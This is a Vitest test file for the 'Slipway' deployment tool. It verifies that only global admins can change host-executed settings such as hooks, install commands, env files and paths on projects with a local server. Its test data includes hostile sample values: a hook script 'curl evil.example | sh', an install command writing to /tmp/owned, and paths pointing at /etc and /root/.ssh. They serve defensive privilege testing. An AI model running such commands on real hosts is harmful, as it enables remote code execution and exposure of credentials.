import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isSlipwayError } from '../../src/errors.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { type ApiStack, startApiStack } from './api-harness.js';

/**
 * Issue 14, item 2: what runs on the Slipway host — hooks, the install command, the env file,
 * linked folders, the repository and the paths of a project with a `local` server — is a global
 * admin's to change. The check is in the core services, so the API, chat and apply all obey.
 */
describe('host privilege: a project with a local server is changed by global admins only', () => {
  let database: TestDatabase;
  let api: ApiStack;
  let root: string;
  let projectAdmin: string;
  let hookId: string;

  beforeAll(async () => {
    database = await createTestDatabase();
    api = await startApiStack(database);
    root = await api.rootToken();
    await api.project(root, 'hostly', [{ name: 'staging', tier: 'staging' }]);
    // The same project admin on a project whose servers are all remote.
    const remote = await api.call('POST', '/api/v1/projects', {
      token: root,
      body: { name: 'remote', repository: api.repo.path },
    });
    expect(remote.status).toBe(201);
    const server = await api.call('POST', '/api/v1/projects/remote/servers', {
      token: root,
      body: { name: 'web-1', host: 'web-1.example.test', connectAs: 'deploy', deploymentPath: '/srv/app' },
    });
    expect(server.status).toBe(201);
    projectAdmin = await api.token('pat', 'all', [
      { project: 'hostly', role: 'admin' },
      { project: 'remote', role: 'admin' },
    ]);
    const hook = await api.call<{ hook: { id: string } }>('POST', '/api/v1/projects/hostly/hooks', {
      token: root,
      body: { name: 'by-root', script: 'true', action: 'activate', timing: 'after' },
    });
    expect(hook.status).toBe(201);
    hookId = hook.body.hook.id;
    const folder = await api.call('POST', '/api/v1/projects/hostly/folders', {
      token: root,
      body: { from: 'storage', to: 'storage' },
    });
    expect(folder.status).toBe(201);
  });
  afterAll(async () => {
    await api?.stop();
    await database?.drop();
  });

  const HOST_CHANGES: [string, string, unknown][] = [
    [
      'POST',
      '/api/v1/projects/hostly/hooks',
      { name: 'pwn', script: 'id', action: 'activate', timing: 'after' },
    ],
    ['PUT', '/api/v1/projects/hostly/hooks/HOOK', { script: 'curl evil.example | sh' }],
    ['DELETE', '/api/v1/projects/hostly/hooks/HOOK', undefined],
    ['PUT', '/api/v1/projects/hostly', { install_command: 'id > /tmp/owned' }],
    ['PUT', '/api/v1/projects/hostly/source', { repository: '/etc' }],
    ['PUT', '/api/v1/projects/hostly/environment', { key: 'a-new-key-123', contents: 'A=1' }],
    ['DELETE', '/api/v1/projects/hostly/environment', { key: 'a-new-key-123' }],
    ['POST', '/api/v1/projects/hostly/folders', { from: 'logs', to: 'logs' }],
    ['DELETE', '/api/v1/projects/hostly/folders', { from: 'storage' }],
    ['PUT', '/api/v1/projects/hostly/servers/local-1', { deploymentPath: '/root/.ssh' }],
    [
      'POST',
      '/api/v1/projects/hostly/servers',
      { name: 'more', transport: 'local', deploymentPath: '/tmp/x' },
    ],
    [
      'PUT',
      '/api/v1/projects/remote/servers/web-1',
      { transport: 'local', deploymentPath: '/tmp/now-local' },
    ],
  ];

  it('refuses a project admin every change to what runs on the host, and changes nothing', async () => {
    const snapshot = () =>
      database.query(
        `select (select json_agg(h order by h.name) from hooks h) as hooks,
                (select json_agg(f order by f."from") from linked_folders f) as folders,
                (select json_agg(json_build_array(s.name, s.transport, s.deploy_path) order by s.name) from servers s) as servers,
                (select json_agg(json_build_array(p.name, p.install_command, p.repository, p.environment_file) order by p.name) from projects p) as projects`,
      );
    const before = await snapshot();
    for (const [method, path, body] of HOST_CHANGES) {
      const reply = await api.call(method, path.replace('HOOK', hookId), { token: projectAdmin, body });
      expect(reply.status, `${method} ${path}: ${reply.text}`).toBe(403);
      expect(String(reply.body.message), `${method} ${path}`).toMatch(
        /Only a global admin can .* it has a local server/,
      );
    }
    expect(await snapshot()).toEqual(before);
  });

  it('lets a global admin make the same changes', async () => {
    for (const [method, path, body] of HOST_CHANGES.slice(0, 4)) {
      const reply = await api.call(method, path.replace('HOOK', hookId), { token: root, body });
      expect(reply.status, `${method} ${path}: ${reply.text}`).toBeLessThan(300);
    }
  });

  it('leaves a project without a local server to its own admins', async () => {
    const hook = await api.call('POST', '/api/v1/projects/remote/hooks', {
      token: projectAdmin,
      body: { name: 'migrate', script: 'php artisan migrate', action: 'activate', timing: 'after' },
    });
    expect(hook.status, hook.text).toBe(201);
    const install = await api.call('PUT', '/api/v1/projects/remote', {
      token: projectAdmin,
      body: { install_command: 'composer install' },
    });
    expect(install.status).toBe(200);
    const env = await api.call('PUT', '/api/v1/projects/remote/environment', {
      token: projectAdmin,
      body: { key: 'remote-key-123', contents: 'A=1' },
    });
    expect(env.status).toBe(200);
  });

  it('is enforced by the core services themselves, not only by the REST routes', async () => {
    const { access, hooks, projects } = api.slipway.services;
    const pat = await access.resolve({
      platform: 'web',
      workspace: 'local',
      userId: 'pat',
      displayName: 'pat',
    });
    const refused = await hooks
      .create(pat, 'hostly', { name: 'direct', script: 'id', action: 'activate', timing: 'after' })
      .then(
        () => null,
        (error: unknown) => error,
      );
    expect(isSlipwayError(refused, 'forbidden')).toBe(true);
    const folder = await projects.addFolder(pat, 'hostly', { from: 'x', to: 'x' }).then(
      () => null,
      (error: unknown) => error,
    );
    expect(isSlipwayError(folder, 'forbidden')).toBe(true);
    // The CLI (no member: the database's own authority, as `slipway apply` runs) may.
    const cli = { memberId: null, name: 'cli (test)', source: 'cli' };
    await expect(
      hooks.create(cli, 'hostly', { name: 'by-cli', script: 'true', action: 'activate', timing: 'after' }),
    ).resolves.toMatchObject({ name: 'by-cli' });
  });
});
